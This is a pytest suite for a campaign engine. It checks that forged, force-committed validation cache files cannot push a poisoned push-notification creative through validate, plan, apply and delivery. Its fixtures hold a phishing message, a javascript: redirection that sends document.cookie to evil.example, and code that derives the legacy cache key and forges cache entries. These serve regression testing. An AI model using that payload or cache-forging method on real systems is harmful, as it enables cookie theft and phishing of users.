"""Nothing a pull request commits is trusted as a cache (issue 10, item 2).

The reported attack: a force-added ``.campaigns/cache/validate.marshal`` replaced a creative's
content with ``javascript:`` and phishing text; it passed validate, was applied and reached 44
users. A pull request controls every file of its checkout, so these tests commit forged cache
files to a real git repository and run the real commands -- validate, plan, test, apply, run --
then look at what reached the state and the outbox.
"""

from __future__ import annotations

import hashlib
import json
import marshal
import subprocess
from pathlib import Path

import pytest
from cli_runner import campaigns, campaigns_process
from repos import EXAMPLE_ACTIVE, MERGED, example_repo

from engine import localcache
from engine.validation import cache as validation_cache
from engine.validation.filecheck import check_file, digest_bytes

pytestmark = pytest.mark.slow

PHISHING = "Your wallet is locked. Verify your PIN at wallet-verify.example now"
FORGED_CREATIVE = f"""\
name: Flash sale A (urgency)
template: push-promo
title: "Security alert"
content: "{PHISHING}"
redirection: "javascript:fetch('https://evil.example/?c='+document.cookie)"
"""
FIRST_WINDOW = "2026-12-01T09:30:00+08:00"  # inside the first window of flash-sale-push


def git(repo: Path, *args: str) -> str:
    done = subprocess.run(["git", *args], cwd=repo, capture_output=True, text=True, check=True)
    return done.stdout.strip()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = example_repo(tmp_path / "repo")
    (root / ".gitignore").write_text(".campaigns/\n")
    git(root, "init", "-q", "-b", "main")
    git(root, "config", "user.email", "marketer@example.com")
    git(root, "config", "user.name", "Marketer")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "campaigns")
    return root


def forged_entry() -> tuple:
    """What an attacker puts in a cache for ``creatives/flash-a.yaml``: the result of checking the
    forged creative, claimed for the bytes of the real one, with every problem dropped."""
    _, data, _, facts = check_file(FORGED_CREATIVE.encode(), "creative")
    return data, facts


def legacy_key() -> str:
    """The key the engine used to derive for ``.campaigns/cache/`` files -- public knowledge,
    computed from the engine's source, as an attacker would."""
    import engine

    package = Path(engine.__file__).resolve().parent
    hasher = hashlib.blake2b(engine.__version__.encode(), digest_size=16)
    for part in ("config", "validation", "templating.py", "schedule"):
        target = package / part
        for path in sorted(target.glob("*.py")) if target.is_dir() else [target]:
            hasher.update(path.name.encode() + path.read_bytes())
    return hasher.hexdigest()


def commit_forged_legacy_cache(repo: Path) -> Path:
    """Force-add ``.campaigns/cache/validate.marshal`` in the layout the engine used to read."""
    real = (repo / "creatives/flash-a.yaml").read_bytes()
    data, facts = forged_entry()
    path = repo / ".campaigns" / "cache" / "validate.marshal"
    path.parent.mkdir(parents=True)
    path.write_bytes(marshal.dumps((legacy_key(), {"creatives/flash-a.yaml": (digest_bytes(real), data, [], facts)})))
    git(repo, "add", "-f", ".campaigns/cache/validate.marshal")
    git(repo, "commit", "-q", "-m", "speed up CI")
    return path


def outbox_text(repo: Path) -> str:
    folder = repo / ".campaigns" / "outbox"
    return "".join(path.read_text() for path in sorted(folder.glob("*.jsonl"))) if folder.is_dir() else ""


def test_committed_cache_file_cannot_change_what_is_applied(repo, state_url):
    commit_forged_legacy_cache(repo)
    env = {"CAMPAIGNS_STATE": state_url, "GITHUB_EVENT_PATH": ""}

    def sh(*args: str, ok: tuple[int, ...] = (0,)):
        done = campaigns_process(*args, cwd=repo, env=env)
        assert done.code in ok, f"campaigns {' '.join(args)}: {done.code}\n{done.out}\n{done.err}"
        return done

    validated = sh("validate")
    assert "ignoring .campaigns/cache/validate.marshal: it is committed to git" in validated.err
    planned = sh("plan", "--format", "json", ok=(0,))
    assert "ignoring .campaigns/cache/validate.marshal" in planned.err
    assert PHISHING not in planned.out and "javascript:" not in planned.out
    creative = next(c for c in json.loads(planned.out)["changes"] if c["address"] == "creative.flash-a")
    assert "50% off ends tonight" in json.dumps(creative)

    sh("users", "import", "audiences/users.csv")
    for task in EXAMPLE_ACTIVE:
        sh("test", task)
    applied = sh("apply", "--event", str(MERGED))
    assert "ignoring .campaigns/cache/validate.marshal" in applied.err
    stored = json.loads(sh("state", "show", "creative.flash-a", "--format", "json").out)["body"]
    assert stored["content"].startswith("Your favourite deals are half price")
    assert stored["redirection"] == "https://shop.example.com/flash-sale?variant=a"

    sh("run", "--once", "--now", FIRST_WINDOW)
    delivered = outbox_text(repo)
    assert "50% off ends tonight" in delivered  # the real creative reached the users
    assert PHISHING not in delivered and "javascript:" not in delivered and "evil.example" not in delivered


def test_committed_cache_file_does_not_pass_a_forged_creative_through_validate(repo):
    """The attack in reverse: the file is bad, the forged cache claims it is fine."""
    (repo / "creatives/flash-a.yaml").write_text(FORGED_CREATIVE)
    git(repo, "commit", "-qam", "new creative")
    forged = repo / ".campaigns" / "cache" / "validate.marshal"
    forged.parent.mkdir(parents=True)
    real = (repo / "creatives/flash-a.yaml").read_bytes()
    _, data, _, facts = check_file((Path(__file__).parents[2] / "creatives/flash-a.yaml").read_bytes(), "creative")
    forged.write_bytes(marshal.dumps((legacy_key(), {"creatives/flash-a.yaml": (digest_bytes(real), data, [], facts)})))
    git(repo, "add", "-f", str(forged))
    git(repo, "commit", "-qm", "cache")
    run = campaigns("validate", "--repo", str(repo))
    assert run.code == 1 and "url-invalid" in run.out and "javascript: scheme is not allowed" in run.out
    assert "ignoring .campaigns/cache/validate.marshal" in run.err


def test_a_cache_folder_inside_the_repository_ignores_committed_files(repo, monkeypatch):
    """CAMPAIGNS_CACHE_DIR pointed into the checkout: a committed cache file there -- even one
    with a valid MAC, such as a developer's own cache committed by mistake -- is never read."""
    monkeypatch.setenv("CAMPAIGNS_CACHE_DIR", str(repo / ".cache"))
    assert campaigns("validate", "--repo", str(repo)).code == 0
    (repo / "creatives/flash-a.yaml").write_text(FORGED_CREATIVE)  # the file is bad ...
    entries = localcache.load(repo, validation_cache.CACHE_FILE, localcache.code_key())
    real = (repo / "creatives/flash-a.yaml").read_bytes()
    kind, (_, data, _, facts), inputs = entries["creatives/flash-a.yaml"]
    entries["creatives/flash-a.yaml"] = (kind, (digest_bytes(real), data, [], facts), inputs)  # ... the cache says fine
    assert localcache.dump(repo, validation_cache.CACHE_FILE, localcache.code_key(), entries)
    localcache.forget(repo, validation_cache.RESULT_FILE)
    committed = localcache.folder(repo) / validation_cache.CACHE_FILE
    git(repo, "add", "-f", str(committed))
    git(repo, "commit", "-qam", "cache")
    run = campaigns("validate", "--repo", str(repo))
    name = str(committed.relative_to(repo))
    assert run.code == 1 and "javascript: scheme is not allowed" in run.out
    assert f"ignoring {name}: it is committed to git" in run.err


def test_a_cache_restored_from_another_machine_is_never_unmarshalled(repo, tmp_path, monkeypatch):
    """CI cache actions can restore a cache folder written by an attacker's run on another
    machine (another key): its files fail authentication and never reach marshal."""
    assert campaigns("validate", "--repo", str(repo)).code == 0
    (repo / "creatives/flash-a.yaml").write_text(FORGED_CREATIVE)
    data, facts = forged_entry()
    real = (repo / "creatives/flash-a.yaml").read_bytes()
    session_key = localcache.key_file()
    monkeypatch.setenv("CAMPAIGNS_CACHE_KEY", str(tmp_path / "attacker" / "cache.key"))
    entries = {"creatives/flash-a.yaml": ("creative", (digest_bytes(real), data, [], facts), {})}
    assert localcache.dump(repo, validation_cache.CACHE_FILE, localcache.code_key(), entries)
    localcache.forget(repo, validation_cache.RESULT_FILE)
    forged_payload = (localcache.folder(repo) / validation_cache.CACHE_FILE).read_bytes()[-200:]
    monkeypatch.setenv("CAMPAIGNS_CACHE_KEY", str(session_key))

    unmarshalled: list[bytes] = []
    real_loads = marshal.loads

    def watching(payload, *args):
        unmarshalled.append(bytes(payload))
        return real_loads(payload, *args)

    monkeypatch.setattr(localcache.marshal, "loads", watching)
    run = campaigns("validate", "--repo", str(repo))
    assert run.code == 1 and "javascript: scheme is not allowed" in run.out
    assert not any(payload.endswith(forged_payload) for payload in unmarshalled)


def test_apply_reads_no_cache_even_an_authentic_one(repo, state_url):
    """Poisoned entries with a valid MAC -- per-file results, the complete result, the plan's
    digests -- change nothing apply writes: apply computes everything from the checkout."""
    env = {"CAMPAIGNS_STATE": state_url, "GITHUB_EVENT_PATH": ""}

    def sh(*args: str):
        done = campaigns(*args, env=env)
        assert done.code == 0, f"{args}: {done.out}\n{done.err}"
        return done

    repo_args = ("--repo", str(repo))
    for task in EXAMPLE_ACTIVE:
        sh("test", task, *repo_args)

    # the per-file cache says creatives/flash-a.yaml (its real bytes) holds the forged creative
    assert campaigns("validate", *repo_args).code == 0
    key = localcache.code_key()
    entries = localcache.load(repo, validation_cache.CACHE_FILE, key)
    kind, (digest, _, _, _), inputs = entries["creatives/flash-a.yaml"]
    data, facts = forged_entry()
    entries["creatives/flash-a.yaml"] = (kind, (digest, data, [], facts), inputs)
    assert localcache.dump(repo, validation_cache.CACHE_FILE, key, entries)
    localcache.forget(repo, validation_cache.RESULT_FILE)

    sh("apply", "--event", str(MERGED), *repo_args)
    stored = json.loads(sh("state", "show", "creative.flash-a", "--format", "json", *repo_args).out)["body"]
    assert PHISHING not in json.dumps(stored) and stored["redirection"].startswith("https://shop.example.com/")

    # the plan's digest cache says the edited audience's body is the one already applied
    from engine.plan import cache as plan_cache

    audience = repo / "audiences/new-users-ph.yaml"
    before = digest_bytes(audience.read_bytes())
    audience.write_text(audience.read_text().replace("name: New users (PH)", "name: New users in the Philippines"))
    after = digest_bytes(audience.read_bytes())
    bodies = localcache.load(repo, plan_cache.CACHE_FILE, key)
    assert before in bodies
    bodies[after] = bodies[before]
    assert localcache.dump(repo, plan_cache.CACHE_FILE, key, bodies)
    applied = sh("apply", "--approved-by", "lead", "--reason", "rename", *repo_args)
    assert "audience.new-users-ph" in applied.out
    stored = json.loads(sh("state", "show", "audience.new-users-ph", "--format", "json", *repo_args).out)["body"]
    assert stored["name"] == "New users in the Philippines"
